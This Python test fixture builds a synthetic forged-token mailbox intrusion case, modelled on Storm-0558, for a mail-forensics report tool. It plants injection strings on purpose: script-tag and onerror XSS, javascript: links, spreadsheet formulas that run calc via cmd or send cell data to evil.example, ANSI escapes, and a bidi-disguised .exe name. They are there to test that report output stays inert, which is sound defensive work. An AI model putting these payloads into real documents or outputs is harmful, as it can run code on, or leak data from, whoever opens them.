"""A hand-made case for report tests: realistic rows in every table a report reads.

Storm-0558-shaped: an actor with forged tokens reads four mailboxes (Indo-Pacific and
European bureaus) from VPS addresses, Mon–Fri 00:00–09:00 UTC, May–June 2023. Hostile
strings (HTML, script, ``javascript:`` links, spreadsheet formulas, ANSI escapes, bidi
overrides) are planted in user agents, subjects, UPNs, rule names, folders and paths.
scope.json is computed from the scope tables, as the scope stage would.
"""

from __future__ import annotations

import random
from collections import Counter, defaultdict
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

import duckdb
import orjson
import pyarrow as pa

from mailscope.model.finding import Finding, write_findings
from mailscope.store.case import open_case

EAP = "Bureau of East Asian and Pacific Affairs"
EUR = "Bureau of European Affairs"
HOSTILE_DEPT = "<b>Bureau</b> of <script>alert('dept')</script>"
HOSTILE_UPN = "=cmd|' /c calc'!a0@ministry.example"
HOSTILE_UA = "\x1b[31mEvilAgent\x1b[0m <script>alert('ua')</script>"
HOSTILE_SUBJECTS = (
    "<script>alert('subject')</script>",
    '<a href="javascript:alert(1)">click me</a>',
    "<img src=http://evil.example/pixel.png onerror=alert(2)>",
    '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b]8;;http://evil.example\x07ANSI link\x1b]8;;\x07 \x1b[2J",
    "Invoice \u202egnp.exe",
)
HOSTILE_FOLDER = "Inbox/<i>Travel</i>\x1b[5m=1+1"
HOSTILE_RULE = '=HYPERLINK("http://evil.example","rule") <script>alert("rule")</script>'
# Every planted string; tests check each stays inert in every output.
HOSTILE = (HOSTILE_DEPT, HOSTILE_UPN, HOSTILE_UA, *HOSTILE_SUBJECTS, HOSTILE_FOLDER, HOSTILE_RULE)

ACTOR_IPS = ("203.0.113.7", "198.51.100.23", "2001:db8::66")
ACTOR_APP = "7d6f7f1b-2a1f-4d5b-9d2e-4c8f3a2b1e90"
ACTOR_SESSIONS = ("a1b2c3d4-0000-4000-8000-00000000aa01", "a1b2c3d4-0000-4000-8000-00000000aa02")
REST_UA = "Client=REST;Client=RESTSystem;;"
START = datetime(2023, 5, 15)
DAYS = 33

USERS = (
    ("ava.chen@ministry.example", "Ava Chen", EAP),
    ("ben.okafor@ministry.example", "Ben Okafor", EAP),
    ("clara.novak@ministry.example", "Clara Novak", EUR),
    (HOSTILE_UPN, "Mallory <svg onload=alert(3)>", HOSTILE_DEPT),
    ("dan.ruiz@ministry.example", "Dan Ruiz", "Bureau of Consular Affairs"),
    ("eve.mills@ministry.example", "Eve Mills", "Human Resources"),
    ("fay.ito@ministry.example", "Fay Ito", EAP),
    ("gus.berg@ministry.example", "Gus Berg", "Office of the Legal Adviser"),
)
VICTIMS = USERS[:4]


@dataclass(frozen=True)
class BuiltCase:
    case_dir: Path
    exposed_rows: int


def build_case(case_dir: Path, *, messages_per_mailbox: int = 12, seed: int = 7) -> BuiltCase:
    """Create a case store and scope.json under ``case_dir``; return what was built."""
    rng = random.Random(seed)
    connection = open_case(case_dir, create=True)
    try:
        _evidence(connection)
        _directory(connection)
        normal = _normal_access(rng)
        actor, exposed = _actor_access(rng, messages_per_mailbox)
        _insert(connection, "mail_access", normal + actor)
        _insert(connection, "scope_access", [_scope_access(row) for row in actor])
        _insert(connection, "scope_exposed_messages", exposed)
        _sensitive_and_people(connection, exposed)
        _actor_table(connection, actor)
        _audit(connection)
        _blind_spots(connection)
        write_findings(connection, _findings())
        _insert(connection, "rule_runs", _rule_runs())
    finally:
        connection.close()
    _write_scope(case_dir, exposed, actor)
    return BuiltCase(case_dir, len(exposed))


def _insert(
    connection: duckdb.DuckDBPyConnection, table: str, rows: list[dict[str, object]]
) -> None:
    """Insert dict rows through Arrow (``executemany`` is far too slow for 10 K rows)."""
    if not rows:
        return
    columns = list(rows[0])
    data = pa.Table.from_pylist(rows)
    connection.register("_incoming", data)
    names = ", ".join(columns)
    connection.execute(f"INSERT INTO {table} ({names}) SELECT {names} FROM _incoming")
    connection.unregister("_incoming")


def _evidence(connection: duckdb.DuckDBPyConnection) -> None:
    files = (
        ("evidence/ual/purview-audit-2023-06.csv", "purview_csv", 52_114, 3),
        ("evidence/entra/signins.json", "graph_signins", 8_402, 0),
        ("evidence/directory/users.csv", "entra_users_csv", 8, 0),
        (f"evidence/mail/{HOSTILE_UPN}/{HOSTILE_SUBJECTS[0]}.eml", "eml", 1, 0),
    )
    rows = []
    for index, (path, fmt, records, quarantined) in enumerate(files):
        digest = f"{index:x}" * 64
        rows.append(
            dict(
                sha256=digest[:64],
                path=path,
                bytes=records * 731,
                format=fmt,
                records=records,
                parsed=records - quarantined,
                quarantined=quarantined,
                duplicates=index,
                seconds=0.5,
                container=None,
            )
        )
    _insert(connection, "evidence", rows)
    _insert(
        connection,
        "quarantine",
        [
            dict(
                source_sha256="0" * 64,
                source_path=files[0][0],
                source_line=line,
                format="purview_csv",
                reason=reason,
                raw=raw,
            )
            for line, reason, raw in (
                (17, "AuditData is not valid JSON", '{"Operation": "MailItemsAcc'),
                (18, "AuditData is not valid JSON", "{broken"),
                (912, "CreationDate unparseable", HOSTILE_SUBJECTS[3]),
            )
        ],
    )


def _directory(connection: duckdb.DuckDBPyConnection) -> None:
    _insert(
        connection,
        "directory_users",
        [
            dict(
                record_key=f"user:{upn}",
                object_id=f"obj-{i}",
                upn=upn,
                display_name=name,
                department=dept,
                job_title="Foreign Affairs Officer",
                office_location="HST",
                mail=upn,
                account_enabled=True,
                user_type="Member",
                source_sha256="2" * 64,
                source_line=i + 2,
            )
            for i, (upn, name, dept) in enumerate(USERS)
        ],
    )


def _access_row(key: str, upn: str, when: datetime, **values: object) -> dict[str, object]:
    row: dict[str, object] = dict(
        record_key=key,
        event_key=f"evt:{key}",
        event_id=f"id-{key}",
        time=when,
        mailbox_upn=upn,
        mailbox_guid=None,
        user_id=upn,
        access_type="Bind",
        folder_path="Inbox",
        message_id=None,
        size_bytes=20_480,
        is_throttled=False,
        operation_count=1,
        logon_type=0,
        client_ip="10.20.0.5",
        app_id="d3590ed6-52b3-4102-aeff-aad2292ab01c",
        client_app_id=None,
        session_id=None,
        aad_session_id=None,
        unique_token_id=None,
        token_issued_at=None,
        client_info="Client=MSExchangeRPC",
        user_agent="Microsoft Office/16.0",
        source_sha256="0" * 64,
        source_line=1,
    )
    row.update(values)
    return row


def _normal_access(rng: random.Random) -> list[dict[str, object]]:
    """Owners reading their own mail in office hours (the baseline the chart compares to)."""
    rows = []
    for day in range(DAYS):
        for upn, _, _ in USERS:
            for n in range(rng.randint(2, 6)):
                when = START + timedelta(
                    days=day, hours=rng.randint(12, 22), minutes=rng.randint(0, 59)
                )
                rows.append(
                    _access_row(
                        f"n:{upn}:{day}:{n}",
                        upn,
                        when,
                        message_id=f"<n{day}.{n}.{rng.randint(0, 9999)}@ministry.example>",
                    )
                )
    return rows


def _actor_access(
    rng: random.Random, per_mailbox: int
) -> tuple[list[dict[str, object]], list[dict[str, object]]]:
    """Bind reads of every exposed message by the actor, plus one folder sync."""
    access: list[dict[str, object]] = []
    exposed: list[dict[str, object]] = []
    for m, (upn, _, _) in enumerate(VICTIMS):
        for i in range(per_mailbox):
            day = (i * 5 // max(per_mailbox, 1) * 7 + i % 5) % DAYS  # weekdays of 5 weeks
            read_at = START + timedelta(
                days=day, hours=rng.randint(0, 8), minutes=rng.randint(0, 59)
            )
            message_id = f"<m{m}.{i}@ministry.example>"
            subject = (
                HOSTILE_SUBJECTS[i % len(HOSTILE_SUBJECTS)]
                if m == 3 or i % 4 == 0
                else f"Cable {m}-{i}: Indo-Pacific consultations"
            )
            folder = HOSTILE_FOLDER if i % 6 == 5 else ("Inbox/Travel" if i % 3 == 1 else "Inbox")
            basis = "throttled" if m == 1 and i % 4 == 3 else "bind"
            ssn = 1 if i % 5 == 2 else 0
            kinds = [
                k
                for k, on in (
                    ("us_ssn", ssn),
                    ("itinerary", folder == "Inbox/Travel"),
                    ("marking", i % 7 == 0),
                )
                if on
            ]
            exposed.append(
                dict(
                    mailbox_upn=upn,
                    message_id=message_id,
                    basis=basis,
                    folder_path=folder,
                    date=read_at - timedelta(days=rng.randint(1, 30)),
                    subject=subject,
                    sender=HOSTILE_UPN if i % 8 == 7 else f"desk{i % 3}@ministry.example",
                    has_content=i % 9 != 8,
                    us_ssn=ssn,
                    has_itinerary="itinerary" in kinds,
                    has_marking="marking" in kinds,
                    sensitive_kinds=kinds,
                )
            )
            if basis == "bind":
                access.append(_actor_row(f"a:{m}:{i}", upn, read_at, message_id, folder, i))
        sync_at = START + timedelta(days=2 + m, hours=3)
        access.append(_actor_row(f"s:{m}", upn, sync_at, None, "Inbox/Travel", m, "Sync"))
    return access, exposed


def _actor_row(
    key: str,
    upn: str,
    when: datetime,
    message_id: str | None,
    folder: str,
    i: int,
    kind: str = "Bind",
) -> dict[str, object]:
    return _access_row(
        key,
        upn,
        when,
        access_type=kind,
        message_id=message_id,
        folder_path=folder,
        client_ip=ACTOR_IPS[i % 3],
        app_id=ACTOR_APP,
        session_id=ACTOR_SESSIONS[i % 2],
        unique_token_id=None if i % 4 == 0 else f"tok-{i % 3}",
        logon_type=0,
        client_info=REST_UA,
        user_agent=HOSTILE_UA if i % 5 == 4 else REST_UA,
        is_throttled=False,
        user_id=upn,
    )


def _scope_access(row: dict[str, object]) -> dict[str, object]:
    keys = (
        "record_key",
        "mailbox_upn",
        "time",
        "access_type",
        "folder_path",
        "message_id",
        "is_throttled",
        "client_ip",
        "app_id",
        "session_id",
        "unique_token_id",
        "user_agent",
    )
    return {k: row[k] for k in keys}


def _sensitive_and_people(
    connection: duckdb.DuckDBPyConnection, exposed: list[dict[str, object]]
) -> None:
    hits = [
        dict(
            mailbox_upn=m["mailbox_upn"],
            message_id=m["message_id"],
            kind="us_ssn",
            value_hash=f"h{n % 7}",
            redacted=f"***-**-{1000 + n % 7}",
            score=0.95,
        )
        for n, m in enumerate(x for x in exposed if x["us_ssn"])
    ]
    _insert(connection, "scope_sensitive_hits", hits)
    per_box = Counter(str(m["mailbox_upn"]) for m in exposed)
    people = [
        dict(
            upn=upn,
            display_name=name,
            department=dept,
            reason="mailbox read by the actor",
            mailboxes=[upn],
            messages=per_box[upn],
            kinds=["mailbox"],
        )
        for upn, name, dept in VICTIMS
    ]
    people.append(
        dict(
            upn="dan.ruiz@ministry.example",
            display_name="Dan Ruiz",
            department="Bureau of Consular Affairs",
            reason="SSN in exposed mail",
            mailboxes=[VICTIMS[0][0], VICTIMS[1][0]],
            messages=len(hits),
            kinds=["us_ssn"],
        )
    )
    _insert(connection, "scope_people", people)


def _actor_table(connection: duckdb.DuckDBPyConnection, actor: list[dict[str, object]]) -> None:
    spans: dict[tuple[str, str], list[datetime]] = defaultdict(list)
    for row in actor:
        for kind, column in (
            ("ip", "client_ip"),
            ("app", "app_id"),
            ("session", "session_id"),
            ("user_agent", "user_agent"),
            ("token", "unique_token_id"),
        ):
            if row[column]:
                spans[(kind, str(row[column]))].append(row["time"])  # type: ignore[arg-type]
    _insert(
        connection,
        "scope_actor",
        [
            dict(
                kind=kind,
                value=value,
                first_seen=min(times),
                last_seen=max(times),
                records=len(times),
                reason="co-occurs with finding forged-token",
            )
            for (kind, value), times in sorted(spans.items())
        ],
    )


def _audit(connection: duckdb.DuckDBPyConnection) -> None:
    params = orjson.dumps({"Name": HOSTILE_RULE, "ForwardTo": "drop@evil.example"}).decode()
    rows = [
        dict(
            record_key="audit:rule",
            id="r-1",
            time=START + timedelta(days=3, hours=2),
            workload="Exchange",
            record_type=1,
            operation="New-InboxRule",
            user_id=VICTIMS[0][0],
            client_ip=ACTOR_IPS[0],
            session_id=ACTOR_SESSIONS[0],
            user_agent=HOSTILE_UA,
            parameters=params,
            mailbox_upn=VICTIMS[0][0],
        ),
        dict(
            record_key="audit:benign",
            id="r-2",
            time=START + timedelta(days=4, hours=15),
            workload="Exchange",
            record_type=1,
            operation="Set-MailboxFolderPermission",
            user_id="eve.mills@ministry.example",
            client_ip="10.20.0.9",
            session_id=None,
            user_agent="Microsoft Office/16.0",
            parameters="{}",
            mailbox_upn=None,
        ),
    ]
    _insert(connection, "audit_events", rows)


def _blind_spots(connection: duckdb.DuckDBPyConnection) -> None:
    t = START + timedelta(days=9, hours=4)
    _insert(
        connection,
        "scope_blind_spots",
        [
            dict(
                kind="throttled_window",
                subject=VICTIMS[1][0],
                start_time=t,
                end_time=t + timedelta(hours=24),
                detail="IsThrottled: Bind reads not logged for 24 h",
            ),
            dict(
                kind="coverage",
                subject="mail_access",
                start_time=START,
                end_time=START + timedelta(days=DAYS),
                detail="1,200 record(s)",
            ),
            dict(
                kind="no_token_ids",
                subject=VICTIMS[0][0],
                start_time=None,
                end_time=None,
                detail="25 % of actor records carry no UniqueTokenId",
            ),
            dict(
                kind="no_content",
                subject=HOSTILE_UPN,
                start_time=None,
                end_time=None,
                detail=f"mailbox export missing; folder {HOSTILE_FOLDER} known from logs only",
            ),
        ],
    )


def _findings() -> list[Finding]:
    first, last = START + timedelta(hours=1), START + timedelta(days=DAYS - 1, hours=8)
    return [
        Finding(
            "token.unknown_session",
            "Mailbox read with tokens absent from sign-in logs",
            "critical",
            0.95,
            "Session ids on MailItemsAccessed records appear in no "
            "sign-in log: consistent with forged tokens (AA23-193A).",
            attack_ids=("T1550.001", "T1114.002"),
            mailboxes=tuple(u for u, _, _ in VICTIMS),
            ips=ACTOR_IPS,
            apps=(ACTOR_APP,),
            sessions=ACTOR_SESSIONS,
            first_seen=first,
            last_seen=last,
            evidence_keys=("a:0:0", "a:1:0"),
        ),
        Finding(
            "baseline.new_app_mail",
            "New application reading mailboxes",
            "high",
            0.8,
            f"AppId {ACTOR_APP} never read mail before {first:%Y-%m-%d}.",
            attack_ids=("T1114.002",),
            apps=(ACTOR_APP,),
            first_seen=first,
            last_seen=last,
        ),
        Finding(
            "bec.inbox_rule",
            f"Inbox rule {HOSTILE_RULE}",
            "medium",
            0.7,
            f"Rule created from {ACTOR_IPS[0]} by user agent {HOSTILE_UA}.",
            attack_ids=("T1564.008",),
            mailboxes=(VICTIMS[0][0],),
            users=(HOSTILE_UPN,),
            first_seen=START + timedelta(days=3, hours=2),
            evidence_keys=("audit:rule",),
        ),
        Finding(
            "offhours.access",
            "Mail access outside working hours",
            "low",
            0.4,
            "Actor accesses cluster Mon–Fri 00:00–09:00 UTC.",
            first_seen=first,
            last_seen=last,
        ),
    ]


def _rule_runs() -> list[dict[str, object]]:
    runs = (
        ("token.unknown_session", "ran", "", 1),
        ("baseline.new_app_mail", "ran", "", 1),
        ("bec.inbox_rule", "ran", "", 1),
        ("offhours.access", "ran", "", 1),
        ("graph.unknown_signin", "skipped", "no Graph activity logs in the case", 0),
        ("jwt.validation", "error", "JWKS file unreadable", 0),
    )
    return [
        dict(rule_id=r, status=s, reason=why, findings=n, seconds=0.01) for r, s, why, n in runs
    ]


def _write_scope(
    case_dir: Path, exposed: list[dict[str, object]], actor: list[dict[str, object]]
) -> None:
    departments = {upn: dept for upn, _, dept in USERS}
    boxes = []
    for upn, _, dept in VICTIMS:
        mine = [m for m in exposed if m["mailbox_upn"] == upn]
        times = [a["time"] for a in actor if a["mailbox_upn"] == upn]
        basis = Counter(str(m["basis"]) for m in mine)
        boxes.append(
            {
                "upn": upn,
                "department": dept,
                "first_access": min(times).isoformat() + "Z",
                "last_access": max(times).isoformat() + "Z",  # type: ignore[type-var, attr-defined]
                "exposed_message_ids": sorted(str(m["message_id"]) for m in mine),
                "exposure_basis": {k: basis[k] for k in ("bind", "sync", "throttled")},
                "sensitive": {
                    "us_ssn": sum(1 for m in mine if m["us_ssn"]),
                    "itinerary_messages": sum(1 for m in mine if m["has_itinerary"]),
                    "marked_messages": sum(1 for m in mine if m["has_marking"]),
                },
            }
        )
    dept_counts = Counter(departments[str(m["mailbox_upn"])] for m in exposed)
    total = len(exposed)
    ssn_hashes = {f"h{n % 7}" for n in range(sum(1 for m in exposed if m["us_ssn"]))}
    document = {
        "schema": "mailscope.scope/1",
        "compromised_mailboxes": boxes,
        "actor": {
            "ips": sorted(ACTOR_IPS),
            "session_ids": sorted(ACTOR_SESSIONS),
            "app_ids": [ACTOR_APP],
            "user_agents": sorted({REST_UA, HOSTILE_UA}),
        },
        "totals": {
            "mailboxes": len(boxes),
            "exposed_messages": total,
            "us_ssn": len(ssn_hashes),
            "itinerary_messages": sum(1 for m in exposed if m["has_itinerary"]),
            "marked_messages": sum(1 for m in exposed if m["has_marking"]),
            "department_share": {d: round(n / total, 4) for d, n in sorted(dept_counts.items())},
        },
    }
    (case_dir / "scope.json").write_bytes(orjson.dumps(document, option=orjson.OPT_INDENT_2))
